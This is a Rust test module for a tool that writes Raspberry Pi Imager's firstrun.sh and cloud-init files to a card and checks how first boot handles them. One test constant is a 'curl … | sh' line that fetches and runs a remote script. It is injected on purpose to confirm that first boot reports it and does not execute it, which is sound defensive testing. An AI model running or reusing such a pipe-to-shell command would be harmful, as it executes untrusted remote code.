//! Boot tests of cards customised by Raspberry Pi Imager (`boot-test --imager firstrun|cloudinit`):
//! writes Imager's files to the FAT as Imager's current release does (from the fixtures in
//! daemon/tests/fixtures/imager, which mirror its output, with the run's SSH key), changes
//! `cmdline.txt` as Imager does for `firstrun.sh`, and checks what first boot made of them.

use clap::ValueEnum;
use std::path::Path;

use crate::disk::Partition;
use crate::error::Result;
use crate::fat;

#[derive(Clone, Copy, Debug, PartialEq, ValueEnum)]
pub enum Flavour {
    /// `firstrun.sh` plus `systemd.run=…` arguments appended to cmdline.txt.
    Firstrun,
    /// cloud-init's `user-data`, `network-config` and `meta-data`.
    Cloudinit,
}

const FIRSTRUN: &str = include_str!("../../daemon/tests/fixtures/imager/firstrun.sh");
const USER_DATA: &str = include_str!("../../daemon/tests/fixtures/imager/user-data");
const NETWORK_CONFIG: &str = include_str!("../../daemon/tests/fixtures/imager/network-config");
const META_DATA: &str = include_str!("../../daemon/tests/fixtures/imager/meta-data");
/// The fixtures' SSH key, replaced by the run's.
const FIXTURE_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH8G4zLZjmsV9B+HuowZPyuWUOqt+ESoEX34/v5kJGvI me@laptop";
/// What Imager appends to cmdline.txt for its script.
const IMAGER_ARGS: &str =
    "systemd.run=/boot/firstrun.sh systemd.run_success_action=reboot systemd.unit=kernel-command-line.target";
/// A line Imager never writes: first boot must name it and not run it.
const UNEXPECTED_LINE: &str = "curl -fsS http://192.0.2.1/setup.sh | sh";

/// What the fixtures set.
pub const HOSTNAME: &str = "kitchen-pi";
pub const SSID: &str = "Home Net";
pub const TIMEZONE: &str = "Europe/Berlin";
pub const KEYBOARD: &str = "de";

/// The files for `flavour`, with `key` as the SSH key; `malformed` adds an unexpected script line
/// (firstrun) or cuts `user-data` short in the middle of a key (cloud-init).
pub fn files(flavour: Flavour, key: &str, malformed: bool) -> Vec<(&'static str, String)> {
    match flavour {
        Flavour::Firstrun => {
            let mut script = FIRSTRUN.replace(FIXTURE_KEY, key);
            if malformed {
                script = script.replace("exit 0\n", &format!("{UNEXPECTED_LINE}\nexit 0\n"));
            }
            vec![("firstrun.sh", script)]
        }
        Flavour::Cloudinit => {
            let mut user = USER_DATA.replace(FIXTURE_KEY, key);
            if malformed {
                let cut = user.find("  ssh_authorized_keys").unwrap_or(user.len());
                user = format!(
                    "{}  ssh_authorized_keys:\n    - \"{}",
                    &user[..cut],
                    &key[..20]
                );
            }
            vec![
                ("user-data", user),
                ("network-config", NETWORK_CONFIG.to_string()),
                ("meta-data", META_DATA.to_string()),
            ]
        }
    }
}

/// Puts Imager's files on the card's FAT and, for `firstrun.sh`, adds Imager's arguments to
/// cmdline.txt. Returns the card's cmdline.txt as it now is.
pub fn prepare(
    disk: &Path,
    boot: &Partition,
    work: &Path,
    flavour: Flavour,
    key: &str,
    malformed: bool,
    log: &Path,
) -> Result<String> {
    for (name, text) in files(flavour, key, malformed) {
        let local = work.join(name);
        std::fs::write(&local, text)
            .map_err(|e| crate::error::Error::new(format!("writing {}: {e}", local.display())))?;
        fat::put(disk, boot, &local, name, log)?;
    }
    let mut cmdline = fat::read(disk, boot, "cmdline.txt", log)?
        .lines()
        .next()
        .unwrap_or("")
        .trim()
        .to_string();
    if flavour == Flavour::Firstrun {
        cmdline = format!("{cmdline} {IMAGER_ARGS}");
        let local = work.join("cmdline.txt");
        std::fs::write(&local, format!("{cmdline}\n"))
            .map_err(|e| crate::error::Error::new(format!("writing {}: {e}", local.display())))?;
        fat::put(disk, boot, &local, "cmdline.txt", log)?;
    }
    Ok(cmdline)
}

/// The kernel command line as the Pi firmware passes it (the card's whole cmdline.txt), with the
/// machine's own arguments after it: its console and root device win over the Pi's.
pub fn kernel_append(card_cmdline: &str, machine_append: &str) -> String {
    let card: Vec<&str> = card_cmdline
        .split_whitespace()
        .filter(|w| !w.starts_with("console="))
        .collect();
    format!("{} {machine_append}", card.join(" "))
}

/// What first boot must have done with Imager's settings; returns what is wrong.
pub fn judge(
    report: &[String],
    firstboot: &[String],
    flavour: Flavour,
    preseed: bool,
    malformed: bool,
    reboots: usize,
) -> Vec<String> {
    let get = |key: &str| {
        report
            .iter()
            .find_map(|l| l.strip_prefix(key).map(|v| v.trim().to_string()))
            .unwrap_or_default()
    };
    let said = |what: &str| firstboot.iter().any(|l| l.contains(what));
    let mut bad = vec![];
    let imager = get("imager ");
    if imager != "cmdline-args=0 files=0 psk-left=0 target=active" {
        bad.push(format!(
            "Imager's traces left or normal boot not reached: {imager}"
        ));
    }
    if !said("imager: ") {
        bad.push("first boot logged nothing about Imager's settings".into());
    }
    if flavour == Flavour::Firstrun && !said("removed Imager's systemd.run arguments") {
        bad.push("first boot did not say it restored cmdline.txt".into());
    }
    // firstrun.sh's boot ends in one reboot into a normal boot (kernel-command-line.service.d/hearth.conf);
    // cloud-init's files change nothing in how the box boots.
    let want_reboots = usize::from(flavour == Flavour::Firstrun);
    if reboots != want_reboots {
        bad.push(format!(
            "{reboots} reboots before the box was ready (want {want_reboots})"
        ));
    }
    if preseed {
        if !said("the preseed wins") {
            bad.push("a preseed was present but first boot did not say it wins".into());
        }
    } else {
        if !get("hostname").starts_with(&format!("{HOSTNAME} ")) {
            bad.push(format!(
                "hostname is not Imager's {HOSTNAME}: {}",
                get("hostname")
            ));
        }
        let want = format!("{TIMEZONE} keyboard {KEYBOARD}");
        if get("timezone") != want {
            bad.push(format!(
                "time zone and keyboard: {} (want {want})",
                get("timezone")
            ));
        }
    }
    if malformed {
        let file = match flavour {
            Flavour::Firstrun => "firstrun.sh:",
            Flavour::Cloudinit => "user-data:",
        };
        if !firstboot
            .iter()
            .any(|l| l.contains(file) && l.contains("ignored"))
        {
            bad.push(format!(
                "first boot did not name {file} and what it ignored"
            ));
        }
    }
    bad
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_runs_key_replaces_the_fixtures() {
        for f in [Flavour::Firstrun, Flavour::Cloudinit] {
            let all: String = files(f, "ssh-ed25519 AAAArun", false)
                .into_iter()
                .map(|(_, t)| t)
                .collect();
            assert!(
                all.contains("ssh-ed25519 AAAArun") && !all.contains(FIXTURE_KEY),
                "{f:?}"
            );
        }
        let cut = files(
            Flavour::Cloudinit,
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIrun",
            true,
        );
        assert!(
            cut[0].1.ends_with("- \"ssh-ed25519 AAAAC3Nz"),
            "{}",
            cut[0].1
        );
        let bad = files(Flavour::Firstrun, "k", true);
        assert!(bad[0].1.contains(UNEXPECTED_LINE));
    }

    #[test]
    fn the_card_cmdline_goes_to_the_kernel_before_the_machines() {
        let a = kernel_append(
            "console=serial0,115200 console=tty1 root=PARTUUID=ab-02 rootwait systemd.run=/boot/firstrun.sh",
            "console=ttyAMA0 root=/dev/vda2",
        );
        assert_eq!(a, "root=PARTUUID=ab-02 rootwait systemd.run=/boot/firstrun.sh console=ttyAMA0 root=/dev/vda2");
    }

    #[test]
    fn judging_finds_leftovers() {
        let report: Vec<String> = [
            "imager cmdline-args=1 files=0 psk-left=0 target=active",
            "hostname kitchen-pi machine-id 1234...",
            "timezone Europe/Berlin keyboard de",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        let said = vec![
            "imager: removed Imager's systemd.run arguments from /boot/firmware/cmdline.txt"
                .to_string(),
        ];
        let bad = judge(&report, &said, Flavour::Firstrun, false, false, 1);
        assert_eq!(bad.len(), 1, "{bad:?}");
        assert!(bad[0].contains("cmdline-args=1"));
        let bad = judge(&report, &said, Flavour::Firstrun, true, true, 1);
        assert_eq!(bad.len(), 3, "{bad:?}");
        let bad = judge(&report, &said, Flavour::Firstrun, false, false, 0);
        assert!(bad.iter().any(|b| b.contains("0 reboots")), "{bad:?}");
    }
}
